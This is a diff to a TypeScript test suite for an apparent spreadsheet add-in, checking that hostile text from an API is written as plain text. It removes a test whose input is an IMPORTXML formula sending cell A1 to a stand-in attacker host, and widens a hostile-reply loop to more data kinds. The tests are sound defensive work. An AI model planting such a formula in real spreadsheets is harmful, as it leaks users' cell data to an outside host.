@@ -40,17 +40,6 @@ describe("A text from the API is written as text", () => {
     expect(city).toMatch(/x… \[cut]$/);
   });
 
-  it("from a formula, and never evaluated", async () => {
-    const addin = await openAddin();
-    addin.spoil = replaced({ title: '=IMPORTXML("https://evil.example/?"&A1,"//a")' });
-
-    const { sheet } = await addin.formula(`=COMPANY_JOBS("${company}",3,"title")`);
-
-    const cells = sheet.getValues(sheet.dataRange).flat();
-    expect(cells.filter((cell) => String(cell).startsWith("=IMPORTXML"))).toHaveLength(3);
-    expect(formulasIn(addin)).toEqual([`=COMPANY_JOBS("${company}",3,"title")`]);
-  });
-
   it("on the sheet of a list", async () => {
     const addin = await openAddin();
     addin.spoil = replaced({ name: SHAPE_SHIFTING_TEXTS[0]!, company_name: SHAPE_SHIFTING_TEXTS[0]! });
@@ -92,7 +81,7 @@ describe("Replies in which every text is hostile", () => {
     const addin = await openAddin();
     addin.api.faults.set([{ when: {}, reply: "hostile" }]);
 
-    for (const kind of ["enrichment", "jobs", "news"] as const) {
+    for (const kind of ["enrichment", "jobs", "news", "posts", "product_reviews"] as const) {
       const sections = ["firmographic", "location", "technology", "management_profile", "funding_detail"];
       const done = await addin.run({ kind, sections, limit: 10 });
       expect(done).toMatchObject({ state: "done" });
